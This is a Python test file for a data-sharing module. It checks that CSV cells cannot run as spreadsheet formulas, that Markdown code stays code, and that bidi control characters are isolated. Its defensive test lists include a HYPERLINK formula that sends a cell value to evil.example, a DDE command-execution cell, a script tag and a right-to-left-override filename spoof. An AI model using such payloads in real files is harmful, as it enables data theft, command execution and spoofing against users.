"""Safe sharing formats (issue 15): CSV cells stay text, Markdown code stays code, bidi stays put."""

from __future__ import annotations

import csv
import html
import io
import re

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from phonehome.analysis import sharing
from phonehome.analysis.sharing import FSI, PDI, bidi_isolate, md_code, neutralise_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a\rb\r=2+2",
    "line1\nline2",
    'quote " inside',
    "plain",
    "",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_cell(value):
    out = neutralise_cell(value)
    assert not out.startswith(sharing.FORMULA_LEADS)
    assert out == value or out == "'" + value


def test_csv_cells_read_back_as_text_and_rows_stay_whole(tmp_path):
    frame = pd.DataFrame({"value": HOSTILE, "n": range(len(HOSTILE))})
    path = tmp_path / "t.csv"
    sharing.write_csv(frame, path)
    with path.open(newline="") as fo:
        rows = list(csv.reader(fo))
    assert len(rows) == len(HOSTILE) + 1  # a CR or LF inside a value never starts a new row
    for (cell, n), original in zip(rows[1:], HOSTILE, strict=True):
        assert not cell.startswith(sharing.FORMULA_LEADS)
        assert cell.removeprefix("'") == original or cell == original
        assert int(n) == HOSTILE.index(original)
    raw = path.read_bytes()
    assert b'"a\rb\r=2+2"' in raw and b'"line1\nline2"' in raw  # CR/LF only ever inside quotes


def test_csv_bytes_for_pandas_writers():
    data = sharing.csv_bytes(pd.DataFrame({"a": ["=1", "x\ry"]}))
    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert rows == [["a"], ["'=1"], ["x\ry"]]


def test_parquet_keeps_raw_values(tmp_path):
    table = pa.table({"value": HOSTILE})
    sharing.write_csv(table, tmp_path / "t.csv")  # neutralising the CSV leaves the data alone
    pq.write_table(table, tmp_path / "t.parquet")
    assert pq.read_table(tmp_path / "t.parquet").column("value").to_pylist() == HOSTILE


@given(st.lists(st.text(max_size=30), min_size=1, max_size=20))
@settings(max_examples=150, deadline=None)
def test_csv_property_every_cell_inert_and_recoverable(values):
    data = sharing.csv_bytes(pd.DataFrame({"v": values}))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(rows) == len(values) + 1
    for (cell,), original in zip(rows[1:], values, strict=True):
        assert not cell.startswith(sharing.FORMULA_LEADS)
        assert cell == neutralise_cell(original)


# --- Markdown --------------------------------------------------------------------------------

MD = MarkdownIt("commonmark").enable("table").enable("strikethrough")
MD_HOSTILE = [
    "https://evil.example/path?q=1",
    "<https://evil.example>",
    "user@example.com",
    "[click](https://evil.example)",
    "![img](https://evil.example/x.png)",
    "~~gone~~",
    "**bold** _it_",
    "`tick` and ``two``",
    "`",
    "``x``",
    " ` ",
    "<script>alert(1)</script>",
    "a | b | c",
    "line\nnext\r\n# heading",
    "trailing space ",
    "\u202eevil",
]


def _render_row(cell: str) -> str:
    return MD.render(f"| h |\n| --- |\n| {cell} |\n")


@pytest.mark.parametrize("text", MD_HOSTILE)
def test_md_code_is_code_and_nothing_else(text):
    for rendered in (MD.render(f"x {md_code(text, table=False)} y\n"), _render_row(md_code(text))):
        assert "<a " not in rendered and "<img" not in rendered and "<del>" not in rendered
        assert "<script" not in rendered and "<strong>" not in rendered and "<h1>" not in rendered
        assert rendered.count("<code>") == 1
        code = html.unescape(re.search(r"<code>(.*?)</code>", rendered, re.S).group(1))
        visible = sharing.bidi_visible(text).replace("\r", "\\r").replace("\n", "\\n")
        assert code == visible


def test_md_code_empty_and_none():
    assert md_code("") == "" and md_code(None) == ""


@given(st.text(min_size=1, max_size=40))
@settings(max_examples=300, deadline=None)
def test_md_code_property(text):
    rendered = MD.render(f"x {md_code(text, table=False)} y\n")
    assert rendered.count("<code>") == 1
    row = _render_row(md_code(text))
    assert row.count("<code>") == 1 and row.count("<td>") == 1
    assert "<a " not in rendered and "<del>" not in rendered and "<em>" not in rendered


# --- bidi -------------------------------------------------------------------------------------


def test_bidi_isolate_makes_controls_visible_and_isolates():
    label = "com.app\u202e\u2069gnp.exe"
    out = bidi_isolate(label)
    assert out.startswith(FSI) and out.endswith(PDI)
    inner = out[1:-1]
    assert not any(ch in sharing.BIDI_CONTROLS for ch in inner)
    assert "<U+202E>" in inner and "<U+2069>" in inner


@given(st.text(max_size=40))
def test_bidi_isolate_property(text):
    out = bidi_isolate(text)
    assert out[0] == FSI and out[-1] == PDI
    assert not any(ch in sharing.BIDI_CONTROLS for ch in out[1:-1])
